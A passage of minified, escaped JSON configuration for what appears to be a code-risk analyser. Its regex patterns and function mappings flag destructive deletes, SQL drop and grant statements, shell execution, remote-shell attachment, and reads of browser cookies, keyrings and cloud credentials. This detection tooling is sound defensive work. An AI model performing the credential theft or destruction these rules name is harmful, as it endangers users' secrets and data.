-x}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%(?!x|\\\\d[\\\\da-f])[-+ #0'^:_<>|\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%","g"]\
-,"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolation":["\\\\\\\\\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)","g"],"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:\
-'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?<!=)\\\\((?!\\\\))|(?<!\\\\()\\\\)|(?<!>)&(?!>)","g"],"long_line_prefix":["^(?:(?:if|then|elif|else|d\
-o|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \\\\t]*(?:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\\
-S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\\[ (?:1|true|x) \\\\]|test 1|echo.*)$"],"always_false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_call\
-":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|system)\\\\b"],"generated_statement":["'\\\\s*((?:drop|truncate|delete|alter|revoke|grant)\\\\s[^']*)'"\
-,"gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"],"host":["^(?:[a-z][a-z0-9+.-]*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\
-\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[!^]\\\\.\\\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:creat\
-e|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"referring_word":["^(?:remote|context|config.*)$"],"name_maker":["^(?:volume|network) create$"]\
-,"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obligation":["(?:needs? to|should|must|has to|have to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list_ite\
-m":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\\[[ x]\\\\]|step \\\\d{1,3}[:.)-]?)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,3}#{\
-1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)"],"prompt":["^[ \\\\t]*\\\\$[ \\\\t]+(?=\\\\S)"],"text_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\\
-w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{1,200})'(?!\\\\w)|[^\\\\s\`\\"\\u201c\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u2014]+\
-)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]+","y"],"code_name":["[\\\\p{L}_][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA-F_]\
-+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE][+-]?\\\\d+)?","y"],"code_mark":["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%\
-|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuing_mark":["^(?:[.,+*/%&|=<>?:([-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$"],"\
-continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\\.\\\\.)$"],"escape":["\\\\\\\\(?:x([\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}|([0\
--7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"prefixed_quote":["(?<prefix>[rbfuRBFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(qq|q\
-x|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_percent":["(%[wWiIqQxr]?)([({[<|!/])","y"],"quoting_none":["(?!)","y"],"heredoc_perl":["<<~?(?:\
-\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"heredoc_php":["<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))","y"],"heredoc_ruby":["<<[~-]?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w\
-*))","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]){0,300}\\\\]|[^/\\\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_string\
-":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dollar":["\\\\{(?=\\\\$)|@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y"],"\
-dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,40}\\\\})?","y"],"table_deed":["^(?:drop-table|truncate|delete-all\
-|update-all)$"],"taken_back":["^begin;(?:[^/*$'\\"\\\\\\\\-](?!\\\\bcommit\\\\b)){0,2000};rollback;?$","i"],"temporary":["^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT 0|WH\
-ERE \\\\(* ?(?:FALSE|0|1 = [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not fals\
-e)(?: *\\\\)*)$","i"],"client_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,4000\
-}?\\\\b(?:program|PROGRAM)[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*/|(\
-?<quote>['\\"\\\\x60])(?<quoted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\$\\\\k\
-<tag>\\\\$|$)|(?<word>[\\\\p{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?:(?:\
-const|let|var|my)\\\\s{1,9})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\blam\
-bda\\\\s+(\\\\w+)","g"],"test_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]{1,1\
-2})[\\"']|\\\\\\\\\\\\.(?:\\\\(\\\\??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']","g"],"known_command":["^(?!\
-[\\\\s\\\\S]*(?:^|[;&|\\\\n(\`{!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u"],"\
-deletes":["^\\\\s*(?:sudo\\\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"new_path":["^/tmp/(?:tmp\\\\.)?\\\\uFFFC(?=/|$)"],"p\
-eer_parameter":["^(?:req|request|reader)$"],"class_name":["^[A-Z]\\\\w*$"],"class_or_self":["^(?:self|cls|this|[A-Z]\\\\w*)$"],"field":["^(?:self\\\\.|this\\\\.|\\\\$this\
-\\\\.|@\\\\w)"],"nothing":["^(?:None|null|undefined|nil|undef)$"],"nothing_or_false":["^(?:None|null|undefined|nil|undef|false|False)$"],"encoding":["^(base64|hex)(\
-?:url)?$"],"unread_encoding":["^(?:rot13|zlib|zip|bz2|uu)$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\w+)(?:\\\\.bake)?$"],"text_method":["^(?:str|bytes)\\\\.([l\
-r]?strip|lower|upper|r?split|splitlines|encode|decode)$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:self|this|[A-Z]\\\\w*)\\\\.(\\\\w+)$\
-"],"true_or_false":["^(?:True|False|true|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"uses_arguments":["arg|shift|\
-\\\\$[1-9*@]","i"],"uses_environment":["env","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\\d|getline|print","i"]},"te\
-xts":{"XML or HTML":["^\\\\s*<(!doctype|\\\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"],"a log":["^\\\\s*(\\\\[?\\\\d{4}\
--\\\\d\\\\d-\\\\d\\\\d[T ]|Traceback \\\\(most recent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]*[.!?:)](\\\\s|$)","u\
-"]}},"languages":{"languages":{"python":{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escapes":true,"quoting":"none","p\
-atterns":false,"lines":"indent"},"program":"python3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_calls":false,"function_keywor\
-ds":["def"],"inputs":{"sys.argv":"argv","os.environ":"environment","sys.stdin":"lines","flask.request.args":"peer","flask.request.form":"peer","flask.request.da\
-ta":"peer","flask.request.json":"peer","flask.request.values":"peer","flask.request.headers":"peer","bottle.request.query":"peer","bottle.request.forms":"peer",\
-"bottle.request.body":"peer","self.rfile":"peer"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.","google.cloud.","googleapic\
-lient.","firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","libcloud.","stripe.","github\
-.Github","gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_client.","weaviate.","pymilvus."\
-,"algoliasearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid.","supabase.","appwrite.","c\
-ontentful_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","netlify.","tencentcloud.","ali\
-yunsdk","alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","notion_client.","asana.","repl\
-icate.","pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox.","cloudinary.","mailchimp\
-_marketing.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesforce.","hubspot."],"texts":{"stat.S_ISUID":"u\
-+s","stat.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./program.py","string.ascii_lowercase":"abcdefghij\
-klmnopqrstuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"open","Path":"pathlib.Path","subprocess.os.syst\
-em":"os.system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlretrieve":"urllib.request.urlretrieve","pd.read_\
-csv":"pandas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__call__$",""],["^Path(?=\\\\.)","\
-pathlib.Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)",""],["^aioshutil\\\\.","shut\
-il."],["^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys.stdout.write":"print text","input":"input","\
-raw_input":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run rm $0:path","os.rmdir":"ru\
-n rmdir $0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path","send2trash.send2trash":"r\
-un rm -rf $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames":"run mv $0:src $1:dst","sh\
-util.move":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run cp $0:src $1:dst","shutil.co\
-pytree":"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mkfifo":"run mkfifo $0","os.m\
-knod":"run mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user $0:path","shutil.chown":"r\
-un chown $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/temporary","os.system":"shell $0:command:cmd","os.po\
-pen":"shell $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0:command:cmd","asyncio.create_subprocess_exec\
-":"program $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"shell $0:args:command:cmd $\
-:input:stdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_call":"sh\
-ell $0:args:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subprocess.Popen":"shell $0:args:command:cmd $:input\
-:stdin","subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:args:command:cmd $:input:stdin","os.execl":"exec\
-ute $0 $1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..","os.execvp":"execute $0 $1.\
-.","os.execve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.spawnlp":"execute $1 $2..",\
-"os.spawnle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawnve":"execute $1 $2..","os.s\
-pawnvpe":"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"kill $0 $1 group","psutil.Pr\
-ocess":"made psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"names $0","os.fork":"if-sign:repeats run fork","o\
-s.setuid":"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run setgid $last","os.chroot":"run chroot $0","ctype\
-s.CDLL":"made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=True run truncate -s 0 $0:files | read $0","flas\
-k.request.get_json":"received","flask.request.get_data":"received","urllib.parse.parse_qs":"received","urllib.parse.parse_qsl":"received","cgi.FieldStorage":"re\
-ceived","psutil.net_connections":"run lsof -i","os.write":"send $0 $1","execfile":"read $0","linecache.getlines":"read $0","numpy.loadtxt":"read $0","pandas.rea\
-d_csv":"read $0","pandas.read_json":"read $0","dotenv.dotenv_values":"read $0","envparse.env.read_envfile":"read $0","importlib.util.spec_from_file_location":"r\
-un python3 $1","runpy.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load $0","dill.loads":"load $0","joblib.load":"lo\
-ad $0","torch.load":"load $0","marshal.loads":"load $0","zipfile.ZipFile":"made archive $0","tarfile.open":"open $0:file:name $1:mode","gzip.open":"open $0:file\
-:name $1:mode","bz2.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.open":"made store $0","dbm.open":"made store $0","lmdb.ope\
-n":"made store $0","plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store $0","zarr.open":"made store $0","zarr.open_group":"made\
- store $0","tinydb.TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.commands.upload.upload":"run twine upload x","configparser.C\
-onfigParser":"made config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-update","sqlalchemy.sql.update":"made whole-update","cro\
-ntab.CronTab":"if-option:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_default_collection":"run secret-tool lookup x","secretstorage\
-.get_all_collections":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x","browser_cookie3.chrome":"run secret-tool lookup x","br\
-owser_cookie3.firefox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","browser_cookie3.load":"run secret-tool lookup x","dulwich.p\
-orcelain.push":"if-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","git_filter_repo.RepoFilte\
-r":"run git filter-repo --force","git.Head.delete":"if-option:force=True run git branch -D","os.fdopen":"value $0","psycopg.sql.SQL":"value $0","psycopg2.sql.SQ\
-L":"value $0","sql.SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value $0","sqlalchemy.text":"value $0\
-","staticmethod":"value $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_module":"module $0","getattr":"att\
-ribute $0 $1","enumerate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip":"rows","itertools.zip_longest":\
-"rows","itertools.chain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins","functools.partial":"made boun\
-d $0 $1..","git.Repo":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git $0","pygit2.Repository":"made gi\
-t $0","pygit2.init_repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mock":"mock","unittest.mock.NonCal\
-lableMock":"mock","unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made error","FileNotFoundError":"mad\
-e error","PermissionError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError":"made error","TimeoutError":"m\
-ade error","ConnectionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.TimeoutExpired":"made error","unitte\
-st.mock.patch":"patcher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitate $0 $1 $2","pytest.MonkeyPatch"\
-:"made monkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"if-no-sign:keeps-real if-no-sign:\
-other-imports if-no-sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","responses.Re\
-questsMock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-no-sign:other-requests patcher r\
-equests","requests_mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-real if-no-sign:besides-httpx pa\
-tcher requests","pyfakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","airflow.utils.db.resetdb":"run sql dro\
-p-database db","fsspec.filesystem":"if-says:^memory$ made mock","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.messa\
-ge.EmailMessage":"made mail","email.mime.text.MIMEText":"made mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.ge\
-t_credential":"secret","netrc.netrc":"secret","dict":"from-pairs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.Ep\
-hemeralClient":"made mock","sqlalchemy.create_mock_engine":"made mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.spli\
-t":"split $0","json.loads":"parse-json $0","tempfile.mktemp":"value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sql\
-alchemy.delete":"made whole","sqlalchemy.sql.delete":"made whole","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downg\
-rade $1:revision","invoke.run":"shell $0","os.path.join":"join $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","p\
-athlib.Path.cwd":"value .","os.getcwd":"value .","os.getenv":"environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environ\
-ment $0 $1:default","os.path.dirname":"dirname $0","tempfile.mkstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.\
-iglob":"glob $0","codecs.decode":"decode $0 $1","shutil.make_archive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"\
-made database $0","socket.socket":"made socket","socket.gethostbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslo\
-okup $0","smtplib.SMTP":"made connection","smtplib.SMTP_SSL":"made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":\
-"made rest $:base_url","httpx.AsyncClient":"made rest $:base_url","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/li\
-b/python3/site-packages","paramiko.Transport":"made ssh","paramiko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.\
-ThreadingGroup":"made ssh","invoke.Context":"made ssh","http.client.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlope\
-n":"request GET $0:url $1:data","urllib.request.Request":"if-option:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.u\
-rlretrieve":"run curl -o $1 $0","requests.request":"request $0 $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files \
-$:content $:params","httpx.get":"request GET $0:url $:data $:json $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:co\
-ntent $:params","httpx.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:con\
-tent $:params","httpx.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:co\
-ntent $:params","httpx.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:fil\
-es $:content $:params","httpx.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json \
-$:files $:content $:params","httpx.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session"\
-:"name requests","aiohttp.ClientSession":"name requests","winreg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","cal\
-l_command":"run django-admin $0","numpy.save":"write $1","torch.save":"write $1","joblib.dump":"write $1"},"methods":{"exclude":"if-owner:objects$ made rows | i\
-f-name:objects made some-rows","splitlines":"if-text split $self \\n","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard | if-git if-option:work\
-ing_tree=True run git reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exists=replace run sql drop-table $0","push":"if-option:dry_run valu\
-e | if-option:force=True if-git run git push --force origin | if-option:force=True if-owner:^(origin|remotes|remote)\\\\b|\\\\.remotes?\\\\b run git push --force orig\
-in | if-option:refspec run git push origin $:refspec","remove_volume":"run docker volume rm $0","prune_volumes":"run docker volume prune -af","delete_head":"if-\
-git if-option:force=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git run git tag -d","checkout_head":"if-git if-arg:list run git check\
-out -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git c\
-heckout -f","checkout":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","put":"if-made:sftp run scp -r $0 host:/x",\
-"new":"if-made:crontab run crontab -","write":"if-made:crontab run crontab - | if-made:archive read $0 | send $self $0","write_to_user":"if-made:crontab run cro\
-ntab -","unlink":"if-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | run rm $self","remove":"if-made:library r\
-un rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library run rm $0 | if-made:sftp run cloud-sdk\
- delete | run rmdir $self","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentials":"run aws configure export-credentials","PowerOff\
-":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made some-rows","delete":"if-made:some-rows run sql delete-s\
-ome rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-sdk delete | if-made:rest request-over DELETE $0 | if-git if-owner:^(references|bra\
-nches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made:some-rows run sql delete-some rows | if-name:objects run sql update-all rows | if\
--made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made:connection run cloud-sdk delete","open_sftp":"if-made:ssh made sftp","rm":"if-opt\
-ion:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name:containers docker-run | sql $0:query:sql","sudo":"if-made:ssh shell $0","scan_ite\
-r":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","rmtree":"run rm -rf $self","read_text":"read $self","read_bytes":"r\
-ead $self","write_text":"write $self $0:data","write_bytes":"write $self $0:data","chmod":"chmod $self $0:mode","walk":"if-text walk $self","read":"if-made:conf\
-ig read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x","attach":"if-made:mail transfer sendmail $0 x","add_attachment":"if-made:mail tran\
-sfer sendmail $0 x","substitute":"if-made:template format $origin","safe_substitute":"if-made:template format $origin","values":"if-made:whole-update value $sel\
-f | if-map values $self","execution_options":"if-made:whole-update value $self","append":"if-list append $self $all","appendleft":"if-list append $self $all","e\
-xtend":"if-list append $self $all","insert":"if-list append $self $all","create":"if-name:containers docker-run","touch":"if-text run touch $self","rename":"if-\
-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-text if-args:1 run mv $self $0","symlink_to":"run ln -s $0 $self","open":"if-text op\
-en $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall":"send $self $0","sendfile":"send $self $0","recv":"received","recvfrom":"receive\
